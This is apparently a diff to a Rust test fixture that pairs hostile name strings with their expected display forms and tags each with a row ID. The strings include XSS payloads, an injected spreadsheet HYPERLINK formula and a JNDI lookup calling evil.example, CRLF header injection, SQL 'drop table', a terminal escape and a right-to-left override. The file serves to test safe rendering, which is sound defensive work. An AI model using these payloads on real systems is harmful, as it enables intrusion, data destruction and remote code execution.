@@ -164,20 +164,24 @@ fn other_subscriptions() -> Vec<Row> {
     ]
 }
 
-/// Names as JSON texts, and as people must see them.
-pub(super) fn names() -> Vec<(&'static str, &'static str)> {
+/// Names as JSON texts, and as people must see them; with the row.
+pub(super) fn names() -> Vec<(&'static str, &'static str, &'static str)> {
     vec![
-        (r#""Zo\u00eb""#, "Zoë"),
-        (r#""Zoe\u0308""#, "Zoe\u{308}"),
-        (r#""a\u0000b""#, "a\u{fffd}b"),
-        (r#""<script>alert(1)</script>""#, "<script>alert(1)</script>"),
-        (r#""\"><svg onload=alert(1)>""#, "\"><svg onload=alert(1)>"),
-        (r#""=HYPERLINK(\"http://evil.example\")""#, "=HYPERLINK(\"http://evil.example\")"),
-        (r#""\u001b]0;owned\u0007""#, "\u{1b}]0;owned\u{7}"),
-        (r#""x\r\nSet-Cookie: a=b\r\nBcc: c@example.com""#, "x\r\nSet-Cookie: a=b\r\nBcc: c@example.com"),
-        (r#""'; drop table calls;--""#, "'; drop table calls;--"),
-        (r#""${jndi:ldap://evil.example/a}""#, "${jndi:ldap://evil.example/a}"),
-        (r#""\u202eecilA""#, "\u{202e}ecilA"),
-        (r#""👩‍👩‍👧‍👦""#, "👩‍👩‍👧‍👦"),
+        ("WH-080", r#""Zo\u00eb""#, "Zoë"),
+        ("WH-080", r#""Zoe\u0308""#, "Zoe\u{308}"),
+        ("WH-076", r#""a\u0000b""#, "a\u{fffd}b"),
+        ("WH-081", r#""<script>alert(1)</script>""#, "<script>alert(1)</script>"),
+        ("WH-081", r#""\"><svg onload=alert(1)>""#, "\"><svg onload=alert(1)>"),
+        ("WH-082", r#""=HYPERLINK(\"http://evil.example\")""#, "=HYPERLINK(\"http://evil.example\")"),
+        ("WH-084", r#""\u001b]0;owned\u0007""#, "\u{1b}]0;owned\u{7}"),
+        (
+            "WH-085",
+            r#""x\r\nSet-Cookie: a=b\r\nBcc: c@example.com""#,
+            "x\r\nSet-Cookie: a=b\r\nBcc: c@example.com",
+        ),
+        ("WH-086", r#""'; drop table calls;--""#, "'; drop table calls;--"),
+        ("a template", r#""${jndi:ldap://evil.example/a}""#, "${jndi:ldap://evil.example/a}"),
+        ("turned letters", r#""\u202eecilA""#, "\u{202e}ecilA"),
+        ("a family", r#""👩‍👩‍👧‍👦""#, "👩‍👩‍👧‍👦"),
     ]
 }
